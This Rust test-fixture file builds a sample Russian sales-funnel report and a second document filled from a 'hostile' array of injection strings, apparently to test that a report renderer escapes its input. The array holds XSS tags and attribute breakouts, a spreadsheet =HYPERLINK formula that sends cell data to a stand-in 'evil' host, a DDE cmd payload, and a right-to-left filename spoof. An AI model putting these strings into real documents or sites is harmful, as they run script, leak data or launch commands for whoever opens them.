//! Documents to print: one as reports are, one with hostile texts, charts of every sort and size.

use chrono::NaiveDate;
use rust_decimal::Decimal;
use voronka::report::Share;
use voronka::report::show::{
    Bar, Cell, Chart, Document, Drawing, Figure, Funnel, FunnelStep, Kind, Line, Lines, Measure, Pareto, Row,
    Section, StageTime, Table, TimeOnStage,
};

const HOUR: i64 = 3_600_000;

pub fn dec(text: &str) -> Decimal {
    text.parse().unwrap()
}

/// The stages of a sale: title, entered, reached, lost, median and 90th percentile in hours, amount lost.
const STAGES: [(&str, u64, u64, u64, i64, i64, &str); 6] = [
    ("Обращение клиента по телефону, почте или через сайт", 1240, 1240, 212, 3, 26, "1250000.50"),
    ("Выявление потребности", 1010, 1028, 148, 20, 71, "980000"),
    ("Подбор товара и расчёт заказных позиций", 860, 880, 131, 52, 190, "2310500"),
    ("Счёт", 722, 749, 97, 70, 340, "740000"),
    ("Предоплата", 633, 652, 15, 12, 60, "99000"),
    ("Отгрузка", 628, 637, 9, 30, 45, "12000"),
];

const REASONS: [(&str, u64); 7] = [
    ("Нет доставки в регион клиента", 184),
    ("Дорого", 160),
    ("Долгий расчёт заказной позиции", 92),
    ("Ушёл к конкуренту", 74),
    ("Не дозвонились после трёх попыток в разные дни", 51),
    ("Передумал", 33),
    ("причина не указана", 18),
];

fn stages() -> Table {
    let mut table = Table::new("stages")
        .title("Этапы")
        .column("stage", "Этап", Kind::Text)
        .column("entered", "Вошло", Kind::Count)
        .column("reached", "Дошло", Kind::Count)
        .column("conversion", "Конверсия в следующий", Kind::ShareWithInterval)
        .column("lost", "Отказов", Kind::Count)
        .column("lost_amount", "Потеряно", Kind::Money)
        .column("median", "Медиана", Kind::Time)
        .column("median_working", "Рабочее время", Kind::WorkingTime)
        .column("change", "К прошлому кварталу", Kind::PointsWithInterval)
        .column("last", "Последний отказ", Kind::Date);
    for (place, (title, entered, reached, lost, median, _, amount)) in STAGES.iter().enumerate() {
        let next = STAGES.get(place + 1).map_or(628, |it| it.2);
        let share = Share::new(next, *reached);
        let points = Figure::Points {
            value: 0.031 - f64::from(u32::try_from(place).unwrap()) / 50.0,
            interval: share.difference(&Share::new(next - 30, *reached)),
        };
        table.push(Row::new([
            Cell::text(*title),
            Cell::count(*entered).query(format!("entered=stage{place}")),
            Cell::count(*reached).query(format!("reached=stage{place}")),
            Cell::share_with_interval(share),
            Cell::count(*lost).query(format!("lost_at=stage{place}")).small(*lost < 20),
            Cell::money(dec(amount), "RUB"),
            Cell::time(Some(Decimal::from(median * HOUR))),
            Cell::working_time(Some(Decimal::from(median * HOUR / 3))),
            points.into(),
            Figure::Date(NaiveDate::from_ymd_opt(2026, 3, 30).unwrap()).into(),
        ]));
    }
    let won = [Cell::text("Продано"), Cell::count(628), Cell::count(628), Cell::empty(), Cell::empty()];
    table.push(Row::new(won.into_iter().chain([Cell::money(dec("5391500.50"), "RUB"), Cell::none()])).sum());
    table
}

fn reasons() -> Table {
    let mut table = Table::new("reasons")
        .column("reason", "Причина", Kind::Text)
        .column("cases", "Обращений", Kind::Count)
        .column("of_lost", "От всех отказов", Kind::Share)
        .column("by", "Кто может устранить", Kind::Text);
    table.push(Row::new([Cell::text("Все отказы"), Cell::count(612), Cell::share(Share::new(612, 612))]));
    for (title, cases) in REASONS {
        let cells = [
            Cell::text(title),
            Cell::count(cases),
            Cell::share(Share::new(cases, 612)),
            Cell::text("компания"),
        ];
        table.push(Row::new(cells).under(1));
    }
    table
}

fn float(count: u64) -> f64 {
    f64::from(u32::try_from(count).unwrap())
}

fn hours(hours: i64) -> Option<f64> {
    Some(f64::from(i32::try_from(hours).unwrap()) * 3.6e6)
}

pub fn funnel() -> Chart {
    let steps = STAGES
        .iter()
        .map(|it| FunnelStep { label: it.0.into(), reached: float(it.2), lost: float(it.3) })
        .chain([FunnelStep { label: "Продано".into(), reached: 628.0, lost: 0.0 }])
        .collect();
    Chart::new("funnel", "Воронка", Drawing::Funnel(Funnel { measure: Measure::Count, steps }))
}

pub fn pareto() -> Chart {
    let bars = REASONS.iter().map(|it| Bar { label: it.0.into(), value: float(it.1) }).collect();
    Chart::new(
        "pareto",
        "Причины отказов",
        Drawing::Pareto(Pareto { measure: Measure::Count, bars, total: 612.0 }),
    )
}

pub fn times() -> Chart {
    let stages = STAGES
        .iter()
        .map(|it| StageTime { label: it.0.into(), median: hours(it.4), p90: hours(it.5) })
        .chain([StageTime { label: "Возврат".into(), median: None, p90: None }])
        .collect();
    Chart::new("times", "Время на этапе", Drawing::TimeOnStage(TimeOnStage { working: false, stages }))
}

pub fn trend() -> Chart {
    let months =
        ["апр 2025", "май", "июн", "июл", "авг", "сен", "окт", "ноя", "дек", "янв 2026", "фев", "мар"];
    let line = |label: &str, first: f64, step: f64, gap: usize| Line {
        label: label.into(),
        values: (0..12)
            .map(|it| (it != gap).then(|| first + step * f64::from(u32::try_from(it * it % 7).unwrap())))
            .collect(),
    };
    let lines = vec![
        line("Нет доставки в регион клиента", 0.22, 0.012, 4),
        line("Дорого", 0.31, -0.01, 99),
        line("Долгий расчёт заказной позиции", 0.12, 0.005, 99),
    ];
    let labels = months.map(str::to_owned).to_vec();
    Chart::new(
        "trend",
        "Доля причин по месяцам",
        Drawing::Lines(Lines { measure: Measure::Share, labels, lines }),
    )
}

/// A report as they are, in Russian, with long titles.
pub fn report() -> Document {
    let mut document = Document::new("Оптовые продажи: отчёт по воронке", "ru");
    document.subtitle = vec![
        "Закрыты с 01.01.2026 по 31.03.2026, на 31.03.2026 18:00".into(),
        "1 240 обращений; одно повреждено и не учтено: c-177 (запись 12 не читается)".into(),
    ];
    document.as_of = NaiveDate::from_ymd_opt(2026, 3, 31).unwrap().and_hms_opt(18, 0, 0);
    document.sections = vec![
        Section::new("funnel", "Воронка")
            .note("Дошло: обращения, чей самый дальний этап — этот или более поздний.")
            .part(funnel())
            .part(times())
            .part(stages())
            .part("Баланс: продано 628 + отказов 612 = 1 240".to_owned()),
        Section::new("refusals", "Отказы").part(pareto()).part(trend()).part(reasons()),
    ];
    document
}

/// What a client could write to break out of whatever shows it.
pub const HOSTILE: [&str; 10] = [
    "<script>document.title='broken'</script>",
    "\" onload=\"document.title='broken'",
    "' onmouseover='x",
    "</title></svg></style><img src=x onerror=alert(1)>",
    "]]> <!-- --> <![CDATA[",
    "&lt;b&gt; &amp; &#60;",
    "=HYPERLINK(\"http://evil/?\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\u{202e}gnp.exe\u{2066}\u{0}\u{7}\u{1b}[31m\u{ffff}",
    "-2+3\r\n+1\t=1",
];

/// A document in which every text is hostile.
pub fn hostile() -> Document {
    let text = |at: usize| HOSTILE[at % HOSTILE.len()].to_owned();
    let mut document = Document::new(text(0), text(1));
    document.subtitle = HOSTILE.map(str::to_owned).to_vec();
    for at in 0..HOSTILE.len() {
        let mut table = Table::new(text(at))
            .title(text(at + 1))
            .column(text(at + 2), text(at + 3), Kind::Text)
            .column(text(at + 4), text(at + 5), Kind::Money);
        table.push(Row::new([Cell::text(text(at)).query(text(at + 1)), Cell::money(dec("-1.5"), text(at))]));
        table.push(Row::new([Cell::text(text(at + 5)), Cell::text(text(at + 6))]).under(1));
        let bars = vec![Bar { label: text(at), value: 1.0 }, Bar { label: text(at + 1), value: 2.0 }];
        let pareto = Pareto { measure: Measure::Money(text(at)), bars, total: 3.0 };
        let line = Line { label: text(at), values: vec![Some(1.0), None] };
        let lines =
            Lines { measure: Measure::Count, labels: vec![text(at), text(at + 1)], lines: vec![line] };
        document.sections.push(
            Section::new(text(at), text(at))
                .note(text(at))
                .part(table)
                .part(text(at))
                .part(Chart::new(text(at), text(at), Drawing::Pareto(pareto)))
                .part(Chart::new(text(at), text(at), Drawing::Lines(lines))),
        );
    }
    document
}
